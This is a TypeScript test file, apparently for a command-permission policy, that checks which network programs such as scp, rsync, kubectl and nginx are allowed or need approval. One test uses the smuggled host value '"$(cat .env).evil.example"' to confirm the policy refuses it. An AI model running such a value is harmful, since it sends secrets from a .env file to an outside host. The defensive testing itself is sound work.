import assert from "node:assert/strict";
import { test } from "node:test";
import { compilePrograms } from "../../../bin/compile-programs.ts";
import { told } from "./told.ts";

const FAMILIES = [
  "clusters-and-clouds",
  "containers",
  "databases",
  "network-probes",
  "openssl",
  "sockets-and-mail",
  "ssh-and-keys",
  "web-clients",
];
const NAMES = compilePrograms().namesOf(...FAMILIES.map((family) => `${family}.yaml`));

const allowed = (args: string): readonly string[] =>
  NAMES.filter((name) => told(`${name} ${args}`).startsWith("allow")).toSorted();

test("with an operand no network program is allowed, except copies that read one local file", () => {
  assert.deepEqual(allowed("x"), ["pscp", "rsync", "scp"]);
});

test("an unknown option is never allowed", () => {
  assert.deepEqual(allowed("--frobnicate"), []);
  assert.deepEqual(allowed("--frobnicate=x -- y"), []);
});

test("no unknown value is allowed as a host", () => {
  assert.deepEqual(allowed('"$x"'), []);
  assert.deepEqual(allowed('"$(cat .env).evil.example"'), []);
});

test("every network program prints its version with a long option, except those around ssh and clusters", () => {
  assert.deepEqual(
    NAMES.filter(
      (name) => !told(`${name} --version`).startsWith("allow") && !name.startsWith("ssh"),
    ).toSorted(),
    ["autossh", "dbclient", "helm", "host", "kubectl", "scp", "sftp", "slogin"],
  );
});

test("a short option or a word prints a version only where the program defines it so", () => {
  assert.equal(told("nginx -v"), "allow");
  assert.equal(told("mongod -v"), "ask; process; network");
  assert.equal(told("minikube version"), "allow");
  assert.equal(told("finger version"), "ask; network");
  assert.equal(told("cdk help"), "ask; process; network");
});
